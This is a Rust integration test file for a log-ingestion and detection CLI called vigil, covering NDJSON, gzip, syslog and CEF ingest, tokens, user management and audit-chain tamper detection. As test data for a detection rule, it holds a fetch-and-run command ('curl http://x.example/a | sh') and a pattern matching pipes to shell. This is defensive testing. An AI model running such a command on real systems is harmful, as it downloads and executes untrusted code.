//! The CLI end to end: offline ingest (NDJSON, gzip, syslog) with rejects
//! reported by line, the data-dir lock against a running server, tokens, and
//! `vigil audit verify` catching a row edited directly in the database.

mod common;

use std::io::Write;

use common::{Server, vigil};

#[test]
fn offline_ingest_reports_rejects_and_raises_alerts() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("vigil.toml"),
        "[[detect.rules]]\nid = \"curl-pipe\"\ntitle = \"Download piped to shell\"\nseverity = \"critical\"\nfield = \"process.command_line\"\nop = \"contains\"\nvalue = \"| sh\"\n",
    )
    .unwrap();
    let file = dir.path().join("events.ndjson");
    let mut text = String::new();
    for i in 0..2000u32 {
        let cmd = if i.is_multiple_of(500) {
            "curl http://x.example/a | sh"
        } else {
            "ls -la"
        };
        text.push_str(&format!(
            "{{\"i\":{i},\"process\":{{\"command_line\":\"{cmd}\"}},\"host\":{{\"name\":\"h\"}}}}\n"
        ));
        if i == 100 {
            text.push_str("{\"oops\":\n");
        }
    }
    std::fs::write(&file, &text).unwrap();
    let (code, out, err) = vigil(
        dir.path(),
        &[
            "ingest",
            file.to_str().unwrap(),
            "--format",
            "json",
            "--output",
            "json",
            "-q",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v[0]["accepted"], 2000);
    assert_eq!(v[0]["rejected"], 1);
    assert_eq!(v[0]["alerts_raised"], 4);
    assert!(
        err.contains("line 102:"),
        "the bad record is reported by line: {err}"
    );

    // The same data gzip-compressed is detected and decompressed.
    let gz = dir.path().join("events.ndjson.gz");
    let mut enc = flate2::write::GzEncoder::new(
        std::fs::File::create(&gz).unwrap(),
        flate2::Compression::fast(),
    );
    enc.write_all(text.as_bytes()).unwrap();
    enc.finish().unwrap();
    let (code, out, err) = vigil(
        dir.path(),
        &["ingest", gz.to_str().unwrap(), "--output", "json", "-q"],
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v[0]["accepted"], 2000);

    // Syslog lines.
    let sys = dir.path().join("auth.log");
    std::fs::write(
        &sys,
        "<38>Nov 27 10:00:01 bastion sshd[4242]: Accepted publickey for root from 203.0.113.9 port 52100 ssh2\n\
         <165>1 2026-11-27T10:00:02.000Z web1 nginx 77 ID47 [origin ip=\"192.0.2.1\"] GET /index.html\n",
    )
    .unwrap();
    let (code, out, err) = vigil(
        dir.path(),
        &[
            "ingest",
            sys.to_str().unwrap(),
            "--format",
            "syslog",
            "--output",
            "json",
            "-q",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v[0]["accepted"], 2);

    let (code, out, _) = vigil(
        dir.path(),
        &[
            "alerts",
            "list",
            "--format",
            "csv",
            "--min-severity",
            "critical",
        ],
    );
    assert_eq!(code, 0);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines.len(),
        1 + 8,
        "header + 4 alerts per ingest of the NDJSON file twice: {out}"
    );
    assert!(lines[0].starts_with("time,severity,rule"), "{out}");
}

#[test]
fn ingest_refuses_while_a_server_holds_the_data_dir() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("e.ndjson");
    std::fs::write(&file, "{\"a\":1}\n").unwrap();
    let server = Server::start(dir.path(), None);
    let (code, _, err) = vigil(dir.path(), &["ingest", file.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(err.contains("is in use by vigil serve (pid"), "{err}");
    assert!(
        err.contains("/api/v1/ingest"),
        "the error says what to do instead: {err}"
    );
    // Read-only commands work beside the server.
    let (code, _, err) = vigil(dir.path(), &["alerts", "list"]);
    assert_eq!(code, 0, "{err}");
    server.stop();
    let (code, _, err) = vigil(dir.path(), &["ingest", file.to_str().unwrap(), "-q"]);
    assert_eq!(code, 0, "{err}");
}

#[test]
fn tokens_and_audit_verify_detects_a_directly_edited_row() {
    let dir = tempfile::tempdir().unwrap();
    let (code, token, err) = vigil(
        dir.path(),
        &[
            "token", "create", "--role", "ingest", "--name", "shipper", "--quiet",
        ],
    );
    assert_eq!(code, 0, "{err}");
    assert!(token.trim().starts_with("vgl_"), "{token}");
    let (code, _, _) = vigil(dir.path(), &["token", "create", "--role", "viewer"]);
    assert_eq!(code, 0);
    let (code, out, _) = vigil(dir.path(), &["token", "list", "--format", "json"]);
    assert_eq!(code, 0);
    let list: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(list.as_array().unwrap().len(), 2);
    assert!(!out.contains(token.trim()), "secrets are never listed");
    let id = list[0]["id"].as_str().unwrap().to_owned();
    let (code, _, err) = vigil(dir.path(), &["token", "revoke", &id]);
    assert_eq!(code, 0, "{err}");
    let (code, _, err) = vigil(dir.path(), &["token", "revoke", "nope"]);
    assert_eq!(code, 2);
    assert!(err.contains("token list"), "{err}");

    let (code, out, _) = vigil(dir.path(), &["audit", "verify"]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("intact: 3 entries"), "{out}");

    // Tamper with the second entry behind Vigil's back.
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let store = vigil_store::Store::open_sqlite(&dir.path().join("vigil.db"))
            .await
            .unwrap();
        store
            .raw_execute("UPDATE audit_log SET target = 'someone-else' WHERE seq = 2")
            .await
            .unwrap();
        store.close().await;
    });
    let (code, out, _) = vigil(dir.path(), &["audit", "verify"]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("BROKEN at entry 2"), "{out}");
}

#[test]
fn config_show_and_help() {
    let dir = tempfile::tempdir().unwrap();
    let (code, out, _) = vigil(dir.path(), &["config", "show"]);
    assert_eq!(code, 0);
    assert!(out.contains("listen = \"127.0.0.1:8080\""), "{out}");
    assert!(
        out.contains(&format!("data_dir = \"{}\"", dir.path().display())),
        "{out}"
    );
    let (code, out, _) = vigil(dir.path(), &["ingest", "--help"]);
    assert_eq!(code, 0);
    assert!(out.contains("--format"), "{out}");
    let (code, _, err) = vigil(dir.path(), &["--database", "mysql://x", "alerts", "list"]);
    assert_eq!(code, 2);
    assert!(err.contains("not a PostgreSQL URL"), "{err}");
}

#[test]
fn offline_ingest_of_cef_lines() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("vigil.toml"),
        "[[detect.rules]]\nid = \"cef-user\"\ntitle = \"Admin via CEF\"\nfield = \"user.name\"\nvalue = \"admin\"\n",
    )
    .unwrap();
    let file = dir.path().join("fw.cef");
    std::fs::write(
        &file,
        "CEF:0|Acme|Firewall|1.0|100|Login\\|ok|5|src=10.0.0.1 dst=10.0.0.2 suser=admin msg=a b\\=c\n\
         CEF:0|Acme|Firewall\n",
    )
    .unwrap();
    let (code, out, err) = vigil(
        dir.path(),
        &[
            "ingest",
            file.to_str().unwrap(),
            "--format",
            "cef",
            "--output",
            "json",
            "-q",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v[0]["accepted"], 1);
    assert_eq!(v[0]["rejected"], 1);
    assert_eq!(v[0]["alerts_raised"], 1);
    assert!(
        err.contains("line 2:") && err.contains("CEF header"),
        "{err}"
    );
    let (_, out, _) = vigil(dir.path(), &["alerts", "list", "--format", "json"]);
    let a: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(a[0]["source_ip"], "10.0.0.1");
}

/// `vigil users …` with the password on stdin. See: #9
fn users_cmd(data: &std::path::Path, args: &[&str], stdin: &str) -> (i32, String, String) {
    let mut child = std::process::Command::new(common::BIN)
        .arg("--data-dir")
        .arg(data)
        .arg("users")
        .args(args)
        .env_remove("VIGIL_DATABASE")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("vigil users");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(stdin.as_bytes())
        .expect("write stdin");
    let out = child.wait_with_output().expect("wait");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn users_add_list_passwd_disable() {
    let dir = tempfile::tempdir().expect("tempdir");
    let data = dir.path();
    let (code, out, err) = users_cmd(
        data,
        &["add", "alice", "--role", "admin"],
        "a long password 1\n",
    );
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("Added admin user \"alice\""), "{out}");
    // Too short, a machine role, a taken name.
    let (code, _, err) = users_cmd(data, &["add", "bob"], "short\n");
    assert_ne!(code, 0);
    assert!(err.contains("12 characters"), "{err}");
    let (code, _, err) = users_cmd(
        data,
        &["add", "bot", "--role", "ingest"],
        "a long password 1\n",
    );
    assert_ne!(code, 0);
    assert!(err.contains("machines"), "{err}");
    let (code, _, err) = users_cmd(data, &["add", "alice"], "a long password 2\n");
    assert_ne!(code, 0);
    assert!(err.contains("already exists"), "{err}");
    // No password option exists.
    let (code, _, _) = users_cmd(data, &["add", "carol", "--password", "x"], "");
    assert_eq!(code, 2, "clap refuses a password argument");

    let (code, out, err) = users_cmd(data, &["list", "--format", "json"], "");
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).expect("json");
    assert_eq!(v[0]["username"], "alice");
    assert_eq!(v[0]["role"], "admin");
    assert_eq!(v[0]["state"], "active");
    assert!(!out.contains("argon2"), "no hashes in listings: {out}");

    let (code, out, err) = users_cmd(data, &["passwd", "alice"], "another long password\n");
    assert_eq!(code, 0, "{out}{err}");
    let (code, _, err) = users_cmd(data, &["passwd", "nobody"], "another long password\n");
    assert_ne!(code, 0);
    assert!(err.contains("no user"), "{err}");
    let (code, out, err) = users_cmd(data, &["disable", "alice"], "");
    assert_eq!(code, 0, "{out}{err}");
    let (_, out, _) = users_cmd(data, &["list", "--format", "json"], "");
    assert!(out.contains("\"disabled\""), "{out}");

    // Every change is in the verified audit chain.
    let (code, out, err) = vigil(data, &["audit", "export"]);
    assert_eq!(code, 0, "{err}");
    for a in ["user.create", "user.password", "user.disable"] {
        assert!(out.contains(&format!("\"action\":\"{a}\"")), "{a}: {out}");
    }
    assert!(
        !out.contains("a long password"),
        "passwords never reach the audit log"
    );
}
